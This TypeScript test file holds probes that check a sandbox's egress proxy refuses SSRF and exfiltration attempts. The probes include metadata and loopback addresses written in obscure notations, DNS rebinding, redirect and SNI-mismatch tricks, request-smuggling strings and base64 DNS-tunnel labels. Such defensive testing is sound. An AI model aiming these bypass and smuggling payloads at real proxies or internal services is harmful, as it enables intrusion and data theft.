import { madeHello, realHello } from '../../../../libs/egress/src/tls/testing.ts';
import { ipv4, words } from '../addresses.ts';
import type { Attack } from '../attack.ts';
import { PROXY_PORT, PUBLIC } from '../outside.ts';
import { type Probe, type Verdict, verdict } from '../probe.ts';

const get = (url: string, host: string): string => `GET ${url} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
const connect = (to: string): string => `CONNECT ${to} HTTP/1.1\r\nHost: ${to}\r\n\r\n`;

/** Says something to the proxy from inside, and returns what it answers. */
async function say(attack: Attack, bytes: string | Uint8Array): Promise<string> {
  const { stdout } = await attack.attacker.probe(['dial', '2', '1', '0', ipv4('127.0.0.1', PROXY_PORT), words(bytes)]);
  return stdout;
}

/** The status of an answer; 0 for none. */
const statusOf = (answer: string): number => Number(/^HTTP\/1\.1 (\d+)/m.exec(answer)?.[1] ?? 0);

/** Says each; held when each is refused, and nothing was asked of a resolver beside `resolves`, nor connected to. */
async function allRefused(attack: Attack, requests: readonly string[], resolves = false): Promise<Verdict> {
  attack.outside.asked();
  const statuses: number[] = [];
  for (const request of requests) statuses.push(statusOf(await say(attack, request)));
  const { resolved, dialled } = attack.outside.asked();
  return verdict(
    statuses.every((status) => status === 400 || status === 403) &&
      dialled.length === 0 &&
      (resolves || resolved.length === 0),
    `answers ${statuses.join(', ')}; resolved ${resolved.length}, connected to ${dialled.join(', ') || 'nothing'}`,
  );
}

type Told = Pick<Probe, 'id' | 'title' | 'run'>;

const PROBES: readonly Told[] = [
  {
    id: 'name-not-allowed',
    title: 'reach a name that is not allowed, where another is',
    async run(attack) {
      const control = await say(attack, get('http://allowed.test/', 'allowed.test'));
      const { dialled } = attack.outside.asked();
      const isOpen = statusOf(control) === 200 && dialled.join() === `${PUBLIC}:80`;
      const seen = await allRefused(attack, [
        get('http://forbidden.test/', 'forbidden.test'),
        connect('forbidden.test:443'),
      ]);
      return verdict(seen.held && isOpen, `allowed.test: ${statusOf(control)}; forbidden.test: ${seen.evidence}`);
    },
  },
  {
    id: 'metadata-by-name',
    title: 'reach the metadata address by an allowed name that leads there',
    run: (attack) =>
      allRefused(attack, [get('http://metadata.test/latest/', 'metadata.test'), connect('metadata.test:443')], true),
  },
  {
    id: 'loopback-by-name',
    title: 'reach the host’s loopback by an allowed name that leads there',
    run: (attack) =>
      allRefused(attack, [get('http://loopback.test/', 'loopback.test'), connect('loopback.test:443')], true),
  },
  {
    id: 'mapped-and-mixed',
    title: 'hide a private address in an IPv6 one, or behind a public one',
    run: (attack) =>
      allRefused(
        attack,
        ['mapped.test', 'mixed.test'].flatMap((name) => [get(`http://${name}/`, name), connect(`${name}:443`)]),
        true,
      ),
  },
  {
    id: 'rebinding',
    title: 'have a name lead elsewhere once it was vetted',
    async run(attack) {
      attack.outside.asked();
      const first = statusOf(await say(attack, get('http://rebind.test/', 'rebind.test')));
      const before = attack.outside.asked();
      const second = statusOf(await say(attack, get('http://rebind.test/', 'rebind.test')));
      const after = attack.outside.asked();
      // Resolved once for each request, and connected to where it was vetted.
      const isPinned = before.resolved.length === 1 && before.dialled.join() === `${PUBLIC}:80`;
      return verdict(
        first === 200 && isPinned && second === 403 && after.dialled.length === 0,
        `first ${first} at ${before.dialled.join()}, then ${second}`,
      );
    },
  },
  {
    id: 'addresses',
    title: 'reach addresses without a name, by GET and by CONNECT',
    run: (attack) =>
      allRefused(
        attack,
        ['127.0.0.1', '169.254.169.254', '10.0.0.1', '[::1]', '[::ffff:127.0.0.1]', '[fe80::1]', '192.0.2.1'].flatMap(
          (at) => [
            get(`http://${at}:${attack.decoys.tcpPort}/`, `${at}:${attack.decoys.tcpPort}`),
            connect(`${at}:${attack.decoys.tcpPort}`),
          ],
        ),
      ),
  },
  {
    id: 'odd-notations',
    title: 'write an address so that a list does not know it',
    run: (attack) =>
      allRefused(
        attack,
        [
          '2130706433',
          '0x7f000001',
          '0177.0.0.1',
          '127.1',
          '0',
          '2852039166',
          '0xa9.0xfe.0xa9.0xfe',
          '[::ffff:a9fe:a9fe]',
          '[64:ff9b::7f00:1]',
          'allowed.test@127.0.0.1',
          '127.0.0.1\\@allowed.test',
          '127.0.0.1#allowed.test',
          'allowed.test%00.forbidden.test',
          'localhost',
          'localhost.',
        ].flatMap((at) => [get(`http://${at}/`, at), connect(`${at}:443`)]),
      ),
  },
  {
    id: 'redirect',
    title: 'be led by a redirect to what is not allowed',
    async run(attack) {
      attack.outside.asked();
      const said: string[] = [];
      let holds = true;
      for (const path of ['/redirect', '/redirect-inside']) {
        const answer = await say(attack, get(`http://allowed.test${path}`, 'allowed.test'));
        const to = /^location: (\S+)/im.exec(answer)?.[1] ?? '';
        const next = await say(attack, get(to, new URL(to || 'http://none').host));
        holds &&= statusOf(answer) === 302 && statusOf(next) === 403;
        said.push(`${to}: ${statusOf(next)}`);
      }
      const { dialled } = attack.outside.asked();
      return verdict(holds && dialled.every((at) => at === `${PUBLIC}:80`), said.join('; '));
    },
  },
  {
    id: 'server-name-mismatch',
    title: 'ask a tunnel for one name, and TLS for another or none',
    async run(attack) {
      const hellos = {
        'allowed.test': await realHello({ servername: 'allowed.test' }),
        'forbidden.test': await realHello({ servername: 'forbidden.test' }),
        none: madeHello([]),
      };
      const said: string[] = [];
      let holds = true;
      for (const [name, hello] of Object.entries(hellos)) {
        const answer = await say(attack, Buffer.concat([Buffer.from(connect('allowed.test:443')), hello]));
        // The other side speaks no TLS, and says so, where the greeting gets to it.
        const isReached = answer.includes('400 Bad Request');
        holds &&= isReached === (name === 'allowed.test');
        said.push(`${name}: ${isReached ? 'let through' : 'ended'}`);
      }
      attack.outside.asked();
      return verdict(holds, said.join('; '));
    },
  },
  {
    id: 'no-tls',
    title: 'speak something other than TLS in a tunnel to its port',
    async run(attack) {
      attack.outside.asked();
      const answer = await say(attack, `${connect('allowed.test:443')}GET / HTTP/1.0\r\n\r\n`);
      attack.outside.asked();
      return verdict(
        !answer.includes('the outside answers'),
        `answer ${statusOf(answer)}, then nothing of the other side`,
      );
    },
  },
  {
    id: 'smuggled-host',
    title: 'name an allowed host in the line of the request, and another in its head',
    run: async (attack) => {
      const requests = [
        get('http://allowed.test/', 'forbidden.test'),
        'GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nHost: forbidden.test\r\n\r\n',
        'GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://forbidden.test/ HTTP/1.1\r\nHost: forbidden.test\r\n\r\n',
        `${connect('allowed.test:80')}GET / HTTP/1.1\r\nHost: forbidden.test\r\n\r\n`,
      ];
      attack.outside.asked();
      const said: string[] = [];
      let holds = true;
      for (const request of requests) {
        const answer = await say(attack, request);
        const { resolved } = attack.outside.asked();
        holds &&= !resolved.includes('forbidden.test') && !answer.includes('the outside answers');
        said.push([...answer.matchAll(/HTTP\/1\.1 (\d+)/g)].map(([, status]) => status).join('+'));
      }
      return verdict(holds, `answers ${said.join(', ')}`);
    },
  },
  {
    id: 'dns-tunnel',
    title: 'carry data out in names that are looked up',
    run: (attack) =>
      allRefused(
        attack,
        ['c3RvbGVu', 'ZGF0YQ', 'b2Y', 'dGhl', 'c2FuZGJveA'].flatMap((part) => [
          get(`http://${part}.forbidden.test/`, `${part}.forbidden.test`),
          get(`http://${part}.allowed.test/`, `${part}.allowed.test`),
          connect(`${part}.forbidden.test:443`),
        ]),
      ),
  },
  {
    id: 'other-ports',
    title: 'reach other ports of an allowed name',
    run: (attack) =>
      allRefused(
        attack,
        ['22', '25', '53', '6379'].map((port) => connect(`allowed.test:${port}`)),
      ),
  },
];

export const egress: readonly Probe[] = PROBES.map((probe) => ({
  ...probe,
  class: 'egress',
  inGuest: 'boundary',
  // There is no proxy without a network of one's own.
  unisolated: 'never',
}));
